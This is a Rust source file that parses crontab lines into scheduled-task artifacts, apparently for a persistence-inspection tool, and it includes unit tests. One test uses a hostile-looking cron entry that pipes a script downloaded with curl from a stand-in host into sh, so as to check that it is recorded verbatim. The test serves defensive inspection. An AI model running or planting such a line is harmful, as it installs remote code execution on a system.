//! Crontab lines.

use super::{base_name, split_command_line, SourceHint};
use crate::core::types::{Artifact, MechanismKind};
use once_cell::sync::Lazy;
use regex::Regex;

static ENV_ASSIGNMENT: Lazy<Regex> =
    Lazy::new(|| Regex::new(r"^[A-Za-z_][A-Za-z0-9_]*\s*=").unwrap());

static TIME_FIELD: Lazy<Regex> = Lazy::new(|| Regex::new(r"^[0-9A-Za-z*,/\-]+$").unwrap());

const SPECIAL_SCHEDULES: &[&str] = &[
    "@reboot", "@yearly", "@annually", "@monthly", "@weekly", "@daily", "@midnight", "@hourly",
];

/// Split off the first `n` whitespace-separated fields, returning the rest verbatim.
fn take_fields(line: &str, n: usize) -> Option<(Vec<&str>, &str)> {
    let mut fields = Vec::with_capacity(n);
    let mut rest = line.trim_start();
    for _ in 0..n {
        let end = rest.find(char::is_whitespace)?;
        fields.push(&rest[..end]);
        rest = rest[end..].trim_start();
    }
    Some((fields, rest))
}

/// Parse a crontab into one artifact per job line.
///
/// `system` crontabs (`/etc/crontab`, `/etc/cron.d/*`) carry a user column
/// after the schedule.
pub fn parse_crontab(raw: &str, system: bool, hint: &SourceHint) -> Vec<Artifact> {
    let mut artifacts = Vec::new();

    for (lineno, line) in raw.lines().enumerate() {
        let line = line.trim();
        if line.is_empty() || line.starts_with('#') || ENV_ASSIGNMENT.is_match(line) {
            continue;
        }

        let schedule_fields = if line.starts_with('@') { 1 } else { 5 };
        let user_fields = usize::from(system);
        let Some((fields, command)) = take_fields(line, schedule_fields + user_fields) else {
            continue;
        };
        if command.is_empty() {
            continue;
        }

        let schedule = &fields[..schedule_fields];
        let valid = if schedule_fields == 1 {
            SPECIAL_SCHEDULES.contains(&schedule[0])
        } else {
            schedule.iter().all(|f| TIME_FIELD.is_match(f))
        };
        if !valid {
            continue;
        }

        let (path, _) = split_command_line(command);
        let name = path
            .as_ref()
            .map(|p| base_name(&p.to_string_lossy()).to_string())
            .unwrap_or_else(|| format!("line {}", lineno + 1));

        let mut artifact = hint
            .artifact(MechanismKind::ScheduledTask, name)
            .with_command(command)
            .with_meta("schedule", schedule.join(" "))
            .with_meta("line", (lineno + 1).to_string());
        if let Some(path) = path {
            artifact = artifact.with_path(path);
        }
        if system {
            artifact.owner = Some(fields[schedule_fields].to_string());
        }
        artifacts.push(artifact);
    }

    artifacts
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::core::types::Platform;
    use crate::parser::Grammar;
    use std::path::PathBuf;

    fn hint(system: bool) -> SourceHint {
        SourceHint::new(Platform::Linux, "/etc/crontab", Grammar::Crontab { system })
    }

    #[test]
    fn test_user_crontab() {
        let raw = "# m h dom mon dow command\nSHELL=/bin/sh\nMAILTO=\"\"\n*/5 * * * * /home/u/bin/sync.sh --quiet\n@reboot /usr/local/bin/agent\n";
        let artifacts = parse_crontab(raw, false, &hint(false));
        assert_eq!(artifacts.len(), 2);
        assert_eq!(artifacts[0].name, "sync.sh");
        assert_eq!(artifacts[0].meta("schedule"), Some("*/5 * * * *"));
        assert_eq!(
            artifacts[0].command.as_deref(),
            Some("/home/u/bin/sync.sh --quiet")
        );
        assert_eq!(artifacts[1].meta("schedule"), Some("@reboot"));
        assert_eq!(artifacts[1].path, Some(PathBuf::from("/usr/local/bin/agent")));
    }

    #[test]
    fn test_system_crontab_user_column() {
        let raw = "17 * * * * root cd / && run-parts --report /etc/cron.hourly\n";
        let artifacts = parse_crontab(raw, true, &hint(true));
        assert_eq!(artifacts.len(), 1);
        assert_eq!(artifacts[0].owner.as_deref(), Some("root"));
        assert_eq!(
            artifacts[0].command.as_deref(),
            Some("cd / && run-parts --report /etc/cron.hourly")
        );
    }

    #[test]
    fn test_malformed_lines_skipped() {
        let raw = "not a cron line\n* * *\n@sometimes /bin/x\n* * * * *\n";
        assert!(parse_crontab(raw, false, &hint(false)).is_empty());
    }

    #[test]
    fn test_pipe_command_kept_verbatim() {
        let raw = "0 * * * * curl -s http://x.example/p.sh | sh\n";
        let artifacts = parse_crontab(raw, false, &hint(false));
        assert_eq!(
            artifacts[0].command.as_deref(),
            Some("curl -s http://x.example/p.sh | sh")
        );
        assert_eq!(artifacts[0].name, "curl");
    }
}
